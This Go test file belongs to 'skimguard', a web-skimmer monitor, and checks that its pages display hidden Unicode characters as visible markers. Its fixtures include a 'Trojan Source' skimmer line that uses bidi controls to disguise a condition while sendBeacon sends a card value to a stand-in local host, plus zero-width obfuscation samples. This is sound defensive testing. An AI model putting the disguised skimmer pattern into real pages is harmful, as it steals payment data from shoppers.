package web

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/PuerkitoBio/goquery"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/scriptdiff"
)

// A "Trojan Source" skimmer: U+202E and U+2066..U+2069 make a browser
// show the condition as a comment, so that the line reads harmless while
// the call runs. The rest hides in zero-width and format characters.
const (
	trojan  = "var level = \"user\";\nif (level != \"user\u202E \u2066// only for admins\u2069 \u2066\") { navigator.sendBeacon(\"http://127.0.0.66:1/g\", cc.value); }\n"
	zeroes  = "var a\u200b = 1;\ufeffvar b\u00ad = 2;\u2028var c = \"\U000E0041\";"
	handler = "button#pay\u202Eyalp[onclick]"
)

// hiddenIn returns the characters of body a reader could not see.
func hiddenIn(body string) []string {
	var out []string
	for _, r := range body {
		if scriptdiff.Hidden(r) && r != utf8.RuneError {
			out = append(out, strings.ToUpper(string(rune(r))))
		}
	}
	return out
}

func TestHiddenCharactersAreShownMarked(t *testing.T) {
	f := newFixture(t)
	o := observation(libV1+trojan, true)
	sum := sha256.Sum256([]byte(zeroes))
	o.Scripts = append(o.Scripts, skimguard.Script{Kind: skimguard.ScriptHandler, Location: handler, Frame: pageURL, Ordinal: 1,
		SHA256: hex.EncodeToString(sum[:]), Size: len(zeroes), Source: zeroes, LoadedBy: "parser"})
	scan := f.checkWith(t, time.Now().UTC().Add(-20*time.Minute), o)
	changed, added := findingOf(t, scan, skimguard.KindScriptChanged), findingOf(t, scan, skimguard.KindScriptAdded)
	c := f.client(t)
	f.login(t, c, "alice", password)

	body := func(path string) (string, *goquery.Document) {
		t.Helper()
		resp, err := c.Get(f.url(path))
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s: %d", path, resp.StatusCode)
		}
		doc, err := goquery.NewDocumentFromReader(strings.NewReader(string(b)))
		if err != nil {
			t.Fatal(err)
		}
		if raw := hiddenIn(string(b)); len(raw) > 0 {
			t.Errorf("%s holds %d raw hidden characters, such as %q", path, len(raw), raw[0])
		}
		return string(b), doc
	}
	markers := func(s *goquery.Selection) string {
		var m []string
		s.Find("span.hidden-char").Each(func(_ int, c *goquery.Selection) { m = append(m, c.Text()) })
		return strings.Join(m, " ")
	}

	_, doc := body("/findings/" + itoa(changed.ID))
	if got := markers(doc.Find("table.diff tr.ins")); got != "⟨U+202E⟩ ⟨U+2066⟩ ⟨U+2069⟩ ⟨U+2066⟩" {
		t.Errorf("the diff marks %q, want the four controls of the inserted line", got)
	}
	if line := doc.Find("table.diff tr.ins td.code").Text(); !strings.Contains(line, `"user⟨U+202E⟩ ⟨U+2066⟩// only for admins⟨U+2069⟩ ⟨U+2066⟩") {`) {
		t.Errorf("the inserted line does not read as the code that runs:\n%s", line)
	}

	_, doc = body("/findings/" + itoa(added.ID))
	if got := markers(doc.Find("section.source")); got != "⟨U+200B⟩ ⟨U+FEFF⟩ ⟨U+00AD⟩ ⟨U+2028⟩ ⟨U+E0041⟩" {
		t.Errorf("the script text marks %q", got)
	}
	if got := markers(doc.Find("p.subject")); got != "⟨U+202E⟩" {
		t.Errorf("the subject marks %q", got)
	}
	if got := markers(doc.Find("dd.detail")); !strings.Contains(got, "⟨U+202E⟩") {
		t.Errorf("the detail marks %q", got)
	}

	for _, path := range []string{"/findings", "/findings?status=all", "/scans/" + itoa(scan.ID), "/pages/shop/checkout"} {
		_, doc := body(path)
		if !strings.Contains(markers(doc.Find("main")), "⟨U+202E⟩") {
			t.Errorf("%s does not mark the handler's U+202E", path)
		}
	}

	// Rejecting records the subject in the audit log, which shows no raw
	// hidden character either.
	if err := f.store.ResolveFindings(context.Background(), []int64{added.ID},
		skimguard.Resolution{Status: skimguard.StatusRejected, By: "alice", Reason: "skimmer", At: time.Now()}, nil); err != nil {
		t.Fatal(err)
	}
	if _, doc := body("/audit"); !strings.Contains(markers(doc.Find("main")), "⟨U+202E⟩") {
		t.Error("the audit log does not mark the subject's U+202E")
	}
}
